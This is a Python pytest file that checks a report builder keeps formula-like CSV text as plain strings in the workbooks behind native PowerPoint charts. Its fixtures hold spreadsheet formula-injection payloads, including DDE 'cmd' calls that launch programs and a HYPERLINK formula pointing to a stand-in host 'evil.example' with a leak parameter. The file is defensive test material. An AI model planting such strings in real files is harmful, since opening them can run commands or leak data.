"""Native charts carry data text into their embedded workbooks as strings, never as formulas.

A CSV cell or column name such as `=cmd|' /C calc'!A0` or `=HYPERLINK(...)` must reach
the workbook behind an editable chart as the text typed: a live formula there runs
when someone opens the chart's data in Excel.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pptx import Presentation
from pptx.enum.chart import XL_CHART_TYPE

from tests.conftest import run_cli

HOSTILE_NAMES = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak=1","Click")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{=1+1}",
    "https://evil.example/track",
)
"""Texts a spreadsheet would run or link: categories in the charts below."""
HOSTILE_COLUMNS = ("=1+2", '=HYPERLINK("https://evil.example","x")')
"""Column names that become series names (no `labels` given)."""

SPEC = """\
report: {title: "Formulas stay text", date: 2025-01-01}
authors: [{name: "Test Author"}]
data:
  flows: {csv: flows.csv, source: "Test data"}
charts:
  - {id: by_name, type: bar, data: flows, x: name, y: "=1+2", title: "Bars"}
  - id: stacked
    type: stacked_bar
    data: flows
    x: name
    y: ["=1+2", '=HYPERLINK("https://evil.example","x")']
    title: "Stacked"
  - {id: pie, type: pie, data: flows, x: name, y: "=1+2", title: "Pie"}
  - id: points
    type: scatter
    data: flows
    x: x
    y: ["=1+2", '=HYPERLINK("https://evil.example","x")']
    title: "Points"
sections:
  - heading: "Charts"
    body: "Text."
    charts: [by_name, stacked, pie, points]
outputs:
  pdf: false
  pptx: {charts: native}
  charts: {formats: [png], dpi: 60}
"""


def _csv() -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["name", "x", *HOSTILE_COLUMNS])
    for i, name in enumerate(HOSTILE_NAMES):
        writer.writerow([name, i + 1, i + 2, i + 3])
    return out.getvalue()


@pytest.fixture(scope="module")
def deck(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A deck of native charts built from a CSV full of formula-like text."""
    folder = tmp_path_factory.mktemp("formulas")
    (folder / "flows.csv").write_text(_csv(), encoding="utf-8")
    (folder / "report.yaml").write_text(SPEC, encoding="utf-8")
    result = run_cli("build", folder / "report.yaml", "--out", folder / "dist")
    assert result.returncode == 0, result.stderr
    (built,) = (folder / "dist").glob("*.pptx")
    return built


def _workbooks(deck: Path) -> list:
    charts = [shape.chart for slide in Presentation(str(deck)).slides
              for shape in slide.shapes if shape.has_chart]
    assert len(charts) == 4
    return [load_workbook(io.BytesIO(chart.part.chart_workbook.xlsx_part.blob))
            for chart in charts]


def test_no_cell_of_a_chart_workbook_is_a_formula(deck: Path) -> None:
    for workbook in _workbooks(deck):
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
                    assert cell.hyperlink is None, f"{cell.coordinate} links {cell.hyperlink}"


def test_data_text_reaches_the_workbook_as_typed(deck: Path) -> None:
    texts: set[str] = set()
    for workbook in _workbooks(deck):
        for sheet in workbook.worksheets:
            texts |= {c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    assert set(HOSTILE_NAMES) <= texts
    assert set(HOSTILE_COLUMNS) <= texts


def test_the_chart_shows_the_text_as_typed(deck: Path) -> None:
    charts = [shape.chart for slide in Presentation(str(deck)).slides
              for shape in slide.shapes if shape.has_chart]
    # the chart's headline is the slide's title, not inside the chart: found by type
    bars = next(c for c in charts if c.chart_type == XL_CHART_TYPE.COLUMN_CLUSTERED)
    assert tuple(bars.plots[0].categories) == HOSTILE_NAMES
    stacked = next(c for c in charts if c.chart_type == XL_CHART_TYPE.COLUMN_STACKED)
    assert tuple(s.name for s in stacked.plots[0].series) == HOSTILE_COLUMNS
